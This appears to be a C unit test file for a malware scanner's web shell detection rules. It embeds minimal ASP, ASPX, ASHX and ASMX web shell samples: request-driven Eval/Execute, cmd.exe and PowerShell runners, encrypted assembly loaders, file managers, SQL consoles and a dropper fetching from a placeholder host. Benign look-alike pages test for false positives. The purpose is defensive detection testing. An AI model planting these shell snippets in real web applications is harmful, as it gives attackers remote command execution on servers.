/*
 * test_webshell_rules.c - spoor's built-in web shell family rules
 * (rules/yara/spoor_webshells.yar, after the China Chopper and OAB rules)
 * against small samples written here, one or more per family: each is the
 * essence of the technique in a few lines, not a copy of a real shell. Each
 * must get the named rule at medium or above; the benign snippets (data
 * binding, a fixed command, an upload handler saving to a fixed folder, a
 * parameterised SQL page, an .asmx service doing arithmetic, a classic ASP
 * page reading a fixed file) must get no finding at medium or above.
 * docs/DETECTION.md says what is benign and why.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "filescan/filescan.h"

typedef struct sample {
  const char *path; /* decides the extension external */
  const char *rule; /* expected rule id without "yara." */
  const char *text;
} sample;

/* ---- malicious: one or more per family ---------------------------------- */

static const sample k_shells[] = {
    /* classic ASP: VBScript Execute / Eval of the request */
    {"/web/a.asp", "spoor_webshell_asp_eval_request",
     "<%\r\nExecute Request.Form(\"pw\")\r\n%>"},
    {"/web/b.asp", "spoor_webshell_asp_eval_request",
     "<%\r\nDim s\r\ns = Request(\"k\")\r\nEval s\r\n%>"},
    /* Execute of what a decoder returns, no Request visible */
    {"/web/c.asp", "spoor_webshell_asp_eval_request",
     "<%\r\nFunction Dz(t): Dz = StrReverse(t): End Function\r\n"
     "ExecuteGlobal Dz(\")\"\"q\"\"(tseuqer lave\")\r\n%>"},
    /* Behinder's classic ASP idea: XOR the raw body, execute the result */
    {"/web/d.asp", "spoor_webshell_asp_eval_request",
     "<%\r\nb = Request.BinaryRead(Request.TotalBytes)\r\n"
     "For i = 1 To LenB(b): r = r & Chr(AscB(MidB(b, i, 1)) Xor 7): Next\r\n"
     "Execute(r)\r\n%>"},
    /* script control handed the Request object */
    {"/web/e.asp", "spoor_webshell_asp_eval_request",
     "<%\r\nSet sc = Server.CreateObject(\"MSScriptControl.ScriptControl\")\r\n"
     "sc.Language = \"VBScript\"\r\nsc.AddObject \"rq\", Request\r\n"
     "sc.ExecuteStatement \"Eval(rq(\"\"c\"\"))\"\r\n%>"},
    /* JScript classic ASP: eval kept as a value, called by another name */
    {"/web/f.asp", "spoor_webshell_asp_eval_request",
     "<script runat=\"server\" language=\"JScript\">\r\n"
     "var t = {run: eval};\r\nt.run(String(Request.Form(\"q\")));\r\n"
     "</script>"},
    /* classic ASP command shells */
    {"/web/cmd.asp", "spoor_webshell_asp_shell_exec",
     "<%\r\nSet w = Server.CreateObject(\"WScript.Shell\")\r\n"
     "Set x = w.Exec(\"cmd /c \" & Request(\"c\"))\r\n"
     "Response.Write x.StdOut.ReadAll\r\n%>"},
    {"/web/sa.asp", "spoor_webshell_asp_shell_exec",
     "<%\r\nSet s = CreateObject(\"Shell.Application\")\r\n"
     "s.ShellExecute Request.Form(\"f\"), Request.Form(\"a\"), \"\", \"open\", "
     "0\r\n%>"},
    /* Script Encoder output and the UTF-7 code page */
    {"/web/enc.asp", "spoor_webshell_asp_encoded_script",
     "<%@ LANGUAGE = \"VBScript.Encode\" %>\r\n<%#@~^CAAAAA==abcdefgh^#~@%>"},
    {"/web/u7.asp", "spoor_webshell_asp_encoded_script",
     "<%@ codepage=65000 %>\r\n<%\r\n+AGUAdgBhAGwA-\r\n%>"},
    /* classic ASP file manager: browse, write, delete where asked */
    {"/web/fm.asp", "spoor_webshell_asp_file_manager",
     "<%\r\nSet o = CreateObject(\"Scripting.FileSystemObject\")\r\n"
     "p = Request(\"p\")\r\nFor Each d In o.GetFolder(p).SubFolders: "
     "Response.Write d.Name: Next\r\n"
     "If Request(\"del\") <> \"\" Then o.DeleteFile p & Request(\"del\")\r\n"
     "Set t = o.CreateTextFile(p & Request(\"n\"))\r\n%>"},
    /* classic ASP SQL console */
    {"/web/sql.asp", "spoor_webshell_asp_sql_console",
     "<%\r\nSet c = Server.CreateObject(\"ADODB.Connection\")\r\n"
     "c.Open Request(\"cs\")\r\nSet r = c.Execute(Request(\"q\"))\r\n%>"},
    /* classic ASP dropper: fetch over HTTP, save as a page */
    {"/web/dl.asp", "spoor_webshell_asp_dropper",
     "<%\r\nSet h = CreateObject(\"Msxml2.ServerXMLHTTP\")\r\n"
     "h.Open \"GET\", \"http://example.invalid/x.txt\", False: h.Send\r\n"
     "Set s = CreateObject(\"ADODB.Stream\"): s.Type = 1: s.Open\r\n"
     "s.Write h.responseBody\r\ns.SaveToFile \"C:\\inetpub\\wwwroot\\x.asp\", "
     "2\r\n%>"},
    /* classic ASP writer: a file at the request's path, request text in it */
    {"/web/w.asp", "spoor_webshell_asp_file_writer",
     "<%\r\nn = Request.Form(\"n\")\r\nt = Request.Form(\"t\")\r\n"
     "Set o = Server.CreateObject(\"Scripting.FileSystemObject\")\r\n"
     "Set f = o.OpenTextFile(Server.MapPath(n), 2, True)\r\nf.Write t\r\n"
     "f.Close\r\n%>"},
    /* ASPX command page driven by a TextBox through a helper method */
    {"/web/cmd.aspx", "spoor_webshell_aspx_control_exec",
     "<%@ Page Language=\"C#\" %>\r\n<script runat=\"server\">\r\n"
     "string Run(string a) { var p = new System.Diagnostics.ProcessStartInfo();"
     "\r\n p.FileName = \"cmd.exe\"; p.Arguments = \"/c \" + a;\r\n"
     " p.UseShellExecute = false; p.RedirectStandardOutput = true;\r\n"
     " return System.Diagnostics.Process.Start(p).StandardOutput.ReadToEnd(); }"
     "\r\nvoid Go(object s, EventArgs e) { Out.Text = Run(Cmd.Text); }\r\n"
     "</script>\r\n<form runat=\"server\"><asp:TextBox id=\"Cmd\" "
     "runat=\"server\"/><asp:Button OnClick=\"Go\" runat=\"server\"/>"
     "<asp:Label id=\"Out\" runat=\"server\"/></form>"},
    /* handler writing the request into cmd.exe's standard input */
    {"/web/h.ashx", "spoor_webshell_aspx_control_exec",
     "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\r\n"
     "public class H : System.Web.IHttpHandler {\r\n"
     " public void ProcessRequest(System.Web.HttpContext c) {\r\n"
     "  string x = c.Request[\"x\"];\r\n"
     "  var p = new System.Diagnostics.Process();\r\n"
     "  p.StartInfo.FileName = \"cmd.exe\";\r\n"
     "  p.StartInfo.RedirectStandardInput = true; p.Start();\r\n"
     "  p.StandardInput.WriteLine(x); }\r\n"
     " public bool IsReusable { get { return false; } } }"},
    /* PowerShell runspace fed from a TextBox */
    {"/web/ps.aspx", "spoor_webshell_aspx_control_exec",
     "<%@ Page Language=\"C#\" %>\r\n<script runat=\"server\">\r\n"
     "void Go(object s, EventArgs e) {\r\n"
     " var ps = System.Management.Automation.PowerShell.Create();\r\n"
     " ps.AddScript(Box.Text); Out.Text = ps.Invoke().Count.ToString(); }\r\n"
     "</script>"},
    /* Behinder-style: AES-decrypted body loaded as an assembly */
    {"/web/b.aspx", "spoor_webshell_aspx_crypto_loader",
     "<%@ Page Language=\"C#\" %>\r\n<%\r\n"
     "byte[] k = System.Text.Encoding.UTF8.GetBytes(\"0123456789abcdef\");\r\n"
     "byte[] d = Request.BinaryRead(Request.ContentLength);\r\n"
     "var a = System.Security.Cryptography.Aes.Create();\r\n"
     "System.Reflection.Assembly.Load(a.CreateDecryptor(k, k)"
     ".TransformFinalBlock(d, 0, d.Length)).CreateInstance(\"P\");\r\n%>"},
    /* Godzilla-style: base64 field, Rijndael, Load found by reflection */
    {"/web/g.ashx", "spoor_webshell_aspx_crypto_loader",
     "<%@ WebHandler Language=\"C#\" Class=\"G\" %>\r\n"
     "public class G : System.Web.IHttpHandler {\r\n"
     " public void ProcessRequest(System.Web.HttpContext c) {\r\n"
     "  byte[] d = System.Convert.FromBase64String(c.Request[\"p\"]);\r\n"
     "  d = new System.Security.Cryptography.RijndaelManaged()"
     ".CreateDecryptor(K, K).TransformFinalBlock(d, 0, d.Length);\r\n"
     "  typeof(System.Reflection.Assembly).GetMethod(\"Load\", "
     "new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { d });"
     " }\r\n public bool IsReusable { get { return false; } } }"},
    /* .asmx web method running its argument */
    {"/web/s.asmx", "spoor_webshell_asmx_webmethod_exec",
     "<%@ WebService Language=\"C#\" Class=\"S\" %>\r\n"
     "public class S : System.Web.Services.WebService {\r\n"
     " [System.Web.Services.WebMethod]\r\n"
     " public string Run(string c) {\r\n"
     "  var i = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\");\r\n"
     "  i.Arguments = c; i.UseShellExecute = false;\r\n"
     "  return System.Diagnostics.Process.Start(i).Id.ToString(); } }"},
    /* ASPX file manager */
    {"/web/fm.aspx", "spoor_webshell_aspx_file_manager",
     "<%@ Page Language=\"C#\" %>\r\n<%\r\n"
     "string p = Request.QueryString[\"p\"];\r\n"
     "foreach (var d in System.IO.Directory.GetDirectories(p)) "
     "Response.Write(d);\r\n"
     "if (Request.Form[\"rm\"] != null) "
     "System.IO.File.Delete(Request.Form[\"rm\"]);"
     "\r\nif (Request.Files.Count > 0) Request.Files[0].SaveAs(p + "
     "Request.Files[0].FileName);\r\n%>"},
    /* ASPX SQL console */
    {"/web/sql.aspx", "spoor_webshell_aspx_sql_console",
     "<%@ Page Language=\"C#\" %>\r\n<script runat=\"server\">\r\n"
     "void Go(object s, EventArgs e) {\r\n"
     " var c = new System.Data.SqlClient.SqlConnection(Conn.Text);\r\n"
     " c.Open(); var q = new System.Data.SqlClient.SqlCommand(Sql.Text, c);\r\n"
     " Grid.DataSource = q.ExecuteReader(); Grid.DataBind(); }\r\n</script>"},
    /* JScript.NET eval with the unsafe flag assembled from pieces */
    {"/web/j.aspx", "spoor_webshell_jscript_eval_unsafe",
     "<%@ Page Language=\"Jscript\" %>\r\n<%\r\nvar f = \"u\"+\"nsafe\";\r\n"
     "var c = Request.Item[\"z\"];\r\neval(/*x*/c/*y*/, f);\r\n%>"},
    /* XSLT carrying a script that runs commands */
    {"/web/x.aspx", "spoor_webshell_xslt_script_exec",
     "<%@ Page Language=\"C#\" %>\r\n<%\r\n"
     "string x = @\"<xsl:stylesheet version='1.0' "
     "xmlns:xsl='http://www.w3.org/1999/XSL/Transform' "
     "xmlns:msxsl='urn:schemas-microsoft-com:xslt' xmlns:u='urn:u'>"
     "<msxsl:script language='JScript' implements-prefix='u'>function r(c)"
     "{return new ActiveXObject('WScript.Shell').Exec(c).StdOut.ReadAll();}"
     "</msxsl:script></xsl:stylesheet>\";\r\n"
     "var t = new System.Xml.Xsl.XslCompiledTransform();\r\n%>"},
    /* ASPX uploader writing beside the page */
    {"/web/up.aspx", "spoor_webshell_aspx_upload_beside_page",
     "<%@ Page Language=\"C#\" %>\r\n<%\r\n"
     "HttpPostedFile f = Request.Files[0];\r\n"
     "string dir = System.IO.Path.GetDirectoryName(Request.PhysicalPath);\r\n"
     "using (var s = new System.IO.FileStream(System.IO.Path.Combine(dir, "
     "System.IO.Path.GetFileName(f.FileName)), System.IO.FileMode.Create)) "
     "f.InputStream.CopyTo(s);\r\n%>"},
};

/* ---- benign: no finding at medium or above ------------------------------ */

static const sample k_benign[] = {
    /* (the four below are the shapes of the false positives found on the
       benign pages of open-source WebForms and classic ASP applications,
       docs/DETECTION.md, written anew) */
    /* a page's own function whose name starts with Execute */
    {"/app/login.asp", NULL,
     "<%\r\nDim sql, rs\r\nsql = \"SELECT * FROM users WHERE id=\" & "
     "CLng(Request(\"id\"))\r\nCall OpenRS(rs)\r\n"
     "Call ExecuteSql(sql, rs)\r\nExecuteQuery(sql)\r\n%>"},
    /* VBScript Eval computing a value from the page's own functions */
    {"/app/perm.asp", NULL,
     "<%\r\nFunction IsPage(p)\r\n IsPage = CBool(InStr(LCase(Request."
     "ServerVariables(\"PATH_TRANSLATED\")), LCase(p)))\r\nEnd Function"
     "\r\nFunction Unlocked()\r\n Unlocked = Eval(HasGroup(1) Or "
     "HasGroup(2))\r\nEnd Function\r\n%>"},
    /* browser-side JavaScript and a data-bound Eval near Request: no
       server-side JScript */
    {"/app/list.aspx", NULL,
     "<%@ Page Language=\"C#\" %>\r\n<script type=\"text/javascript\" "
     "language=\"javascript\">$(function () { init(); });</script>\r\n"
     "<asp:Repeater id=\"R\" runat=\"server\"><ItemTemplate>"
     "<asp:LinkButton runat=\"server\" CommandArgument='<%# Eval(\"Id\") "
     "%>' Visible='<%# Eval(\"State\").ToString() == Request.QueryString["
     "\"s\"] %>'/></ItemTemplate></asp:Repeater>"},
    /* a CMS upload class: multipart bytes saved in a folder the request
       names */
    {"/cms/upload.asp", NULL,
     "<%\r\nClass Uploader\r\n Public Sub Receive()\r\n  raw = "
     "Request.BinaryRead(Request.TotalBytes)\r\n End Sub\r\n"
     " Public Function SaveFile(p, data)\r\n  Set fso = Server.CreateObject("
     "\"Scripting.FileSystemObject\")\r\n  Set f = fso.CreateTextFile(p, "
     "True)\r\n  f.Write(data)\r\n  f.Close\r\n End Function\r\nEnd "
     "Class\r\nfolder = Request(\"folder\")\r\n%>"},
    /* data binding: Eval of a field name is not code evaluation */
    {"/web/list.aspx", NULL,
     "<%@ Page Language=\"C#\" %>\r\n<asp:Repeater id=\"R\" runat=\"server\">"
     "<ItemTemplate><%# Eval(\"Name\") %> <%# DataBinder.Eval(Container."
     "DataItem, \"Price\") %></ItemTemplate></asp:Repeater>\r\n"
     "<script runat=\"server\">void Page_Load(object s, EventArgs e) { "
     "R.DataSource = Items(Request.QueryString[\"cat\"]); R.DataBind(); }"
     "</script>"},
    /* a fixed command: no input reaches the process */
    {"/web/uptime.aspx", NULL,
     "<%@ Page Language=\"C#\" %>\r\n<script runat=\"server\">\r\n"
     "void Page_Load(object s, EventArgs e) {\r\n"
     " var i = new System.Diagnostics.ProcessStartInfo(\"uptime\");\r\n"
     " i.Arguments = \"-p\"; i.UseShellExecute = false;\r\n"
     " i.RedirectStandardOutput = true;\r\n"
     " Out.Text = System.Diagnostics.Process.Start(i).StandardOutput"
     ".ReadToEnd(); }\r\n</script>\r\n<asp:Label id=\"Out\" "
     "runat=\"server\"/>"},
    /* an upload handler saving under a new name in a fixed folder */
    {"/web/upload.ashx", NULL,
     "<%@ WebHandler Language=\"C#\" Class=\"U\" %>\r\n"
     "public class U : System.Web.IHttpHandler {\r\n"
     " public void ProcessRequest(System.Web.HttpContext c) {\r\n"
     "  var f = c.Request.Files[\"photo\"];\r\n"
     "  string to = c.Server.MapPath(\"~/App_Data/uploads/\") + "
     "System.Guid.NewGuid().ToString(\"N\") + \".jpg\";\r\n"
     "  f.SaveAs(to); c.Response.Write(\"ok\"); }\r\n"
     " public bool IsReusable { get { return true; } } }"},
    /* parameterised SQL from a TextBox value: data, not the statement */
    {"/web/find.aspx", NULL,
     "<%@ Page Language=\"C#\" %>\r\n<script runat=\"server\">\r\n"
     "void Go(object s, EventArgs e) {\r\n"
     " using (var c = new System.Data.SqlClient.SqlConnection("
     "ConfigurationManager.ConnectionStrings[\"db\"].ConnectionString)) {\r\n"
     " var q = new System.Data.SqlClient.SqlCommand(\"SELECT Name FROM Items "
     "WHERE Id = @id\", c);\r\n q.Parameters.AddWithValue(\"@id\", "
     "Id.Text);\r\n"
     " c.Open(); Grid.DataSource = q.ExecuteReader(); Grid.DataBind(); } }"
     "\r\n</script>\r\n<asp:TextBox id=\"Id\" runat=\"server\"/>"},
    /* a web service doing arithmetic */
    {"/web/calc.asmx", NULL,
     "<%@ WebService Language=\"C#\" Class=\"Calc\" %>\r\n"
     "public class Calc : System.Web.Services.WebService {\r\n"
     " [System.Web.Services.WebMethod]\r\n"
     " public int Add(int a, int b) { return a + b; } }"},
    /* classic ASP: a fixed file read, a database query with a fixed
       statement, Server.Execute of a fixed page */
    {"/web/news.asp", NULL,
     "<%\r\nSet o = Server.CreateObject(\"Scripting.FileSystemObject\")\r\n"
     "Set f = o.OpenTextFile(Server.MapPath(\"news.txt\"), 1)\r\n"
     "Response.Write Server.HTMLEncode(f.ReadAll)\r\n"
     "Set c = Server.CreateObject(\"ADODB.Connection\")\r\n"
     "c.Open Application(\"dsn\")\r\n"
     "Set r = c.Execute(\"SELECT Title FROM News\")\r\n"
     "id = CLng(Request.QueryString(\"id\"))\r\n"
     "Server.Execute \"footer.asp\"\r\n%>"},
};

/* ---- helpers ------------------------------------------------------------- */

typedef struct found {
  size_t n_medium;  /* findings at medium or above */
  bool has;         /* the expected rule among them */
  const char *want; /* rule id without "yara." */
  char first[128];  /* first medium+ rule, for messages */
} found;

static void on_finding(const sp_agg *a, void *user) {
  found *f = user;
  if (a->rule->level < SP_LEVEL_MEDIUM)
    return;
  if (f->n_medium++ == 0)
    snprintf(f->first, sizeof f->first, "%s", a->rule->id);
  const char *id = a->rule->id;
  if (strncmp(id, "yara.", 5) == 0)
    id += 5;
  if (f->want && strcmp(id, f->want) == 0)
    f->has = true;
}

static found scan(sp_filescan_worker *w, const sample *s) {
  found f = {0};
  f.want = s->rule;
  sp_fset *set;
  assert_int_equal(sp_fset_create(&set), SP_OK);
  sp_filescan_result res;
  sp_filescan_buffer(w, 1, s->path, (const uint8_t *)s->text, strlen(s->text),
                     0, set, &res);
  assert_string_equal(res.error, "");
  sp_fset_foreach(set, on_finding, &f);
  sp_fset_destroy(set);
  return f;
}

typedef struct env {
  sp_filescan *fs;
  sp_filescan_worker *w;
} env;

static int setup(void **state) {
  env *e = calloc(1, sizeof *e);
  if (!e)
    return -1;
  sp_opts o = {0};
  sp_diag d = {0};
  if (sp_filescan_create(&o, &e->fs, &d) != SP_OK) {
    fprintf(stderr, "create: %s\n", d.msg);
    free(e);
    return -1;
  }
  if (sp_filescan_worker_create(e->fs, &e->w) != SP_OK) {
    sp_filescan_destroy(e->fs);
    free(e);
    return -1;
  }
  *state = e;
  return 0;
}

static int teardown(void **state) {
  env *e = *state;
  sp_filescan_worker_destroy(e->w);
  sp_filescan_destroy(e->fs);
  free(e);
  return 0;
}

/* ---- tests --------------------------------------------------------------- */

static void test_families_fire(void **state) {
  env *e = *state;
  size_t bad = 0;
  for (size_t i = 0; i < sizeof k_shells / sizeof k_shells[0]; i++) {
    found f = scan(e->w, &k_shells[i]);
    if (!f.has) {
      print_message("%s: expected %s, got %s\n", k_shells[i].path,
                    k_shells[i].rule, f.n_medium ? f.first : "nothing");
      bad++;
    }
  }
  assert_int_equal(bad, 0);
}

static void test_benign_quiet(void **state) {
  env *e = *state;
  size_t bad = 0;
  for (size_t i = 0; i < sizeof k_benign / sizeof k_benign[0]; i++) {
    found f = scan(e->w, &k_benign[i]);
    if (f.n_medium) {
      print_message("%s: unexpected %s\n", k_benign[i].path, f.first);
      bad++;
    }
  }
  assert_int_equal(bad, 0);
}

/* An application's shared C# class library uses every API a shell does, far
 * apart: process start fed by a variable, control text, file listing,
 * delete and write. Source over 256 KB without page markup is not taken for
 * a page. */
static void test_big_class_library_quiet(void **state) {
  env *e = *state;
  const char head[] =
      "using System;\r\nusing System.IO;\r\nusing System.Diagnostics;\r\n"
      "public class Shared {\r\n"
      " public static string Run(string command) {\r\n"
      "  var p = new Process();\r\n  p.StartInfo.FileName = command;\r\n"
      "  p.Start(); return p.StandardOutput.ReadToEnd(); }\r\n"
      " public static void Clean(string dir) {\r\n"
      "  foreach (var f in Directory.GetFiles(dir)) File.Delete(f);\r\n"
      "  File.WriteAllText(Path.Combine(dir, \"x\"), \"\"); }\r\n"
      " public static string Q() { return System.Web.HttpContext.Current."
      "Request.QueryString[\"q\"]; }\r\n";
  const char filler[] = " public static int F(int a) { return a + 1; }\r\n";
  size_t cap = 300 * 1024;
  char *text = malloc(cap + 256);
  assert_non_null(text);
  size_t n = 0;
  memcpy(text, head, sizeof head - 1);
  n = sizeof head - 1;
  while (n + sizeof filler < cap) {
    memcpy(text + n, filler, sizeof filler - 1);
    n += sizeof filler - 1;
  }
  const char tail[] = " void Bind() { Name.Text = Run(Box.Text); }\r\n}\r\n";
  memcpy(text + n, tail, sizeof tail);
  sample big = {"/src/App_Code/Shared.cs", NULL, text};
  found f = scan(e->w, &big);
  if (f.n_medium)
    print_message("Shared.cs: unexpected %s\n", f.first);
  assert_int_equal(f.n_medium, 0);
  /* The same code as a small page is judged as one. */
  sample small = {"/web/run.aspx", NULL,
                  "<%@ Page Language=\"C#\" %>\r\n<script runat=\"server\">"
                  "\r\nvoid Go(object s, EventArgs e) {\r\n var p = new "
                  "System.Diagnostics.Process();\r\n p.StartInfo.FileName = "
                  "Cmd.Text;\r\n p.Start(); }\r\n</script>\r\n"
                  "<asp:TextBox id=\"Cmd\" runat=\"server\"/>"};
  f = scan(e->w, &small);
  assert_true(f.n_medium > 0);
  free(text);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_big_class_library_quiet),
      cmocka_unit_test(test_families_fire),
      cmocka_unit_test(test_benign_quiet),
  };
  return cmocka_run_group_tests(tests, setup, teardown);
}
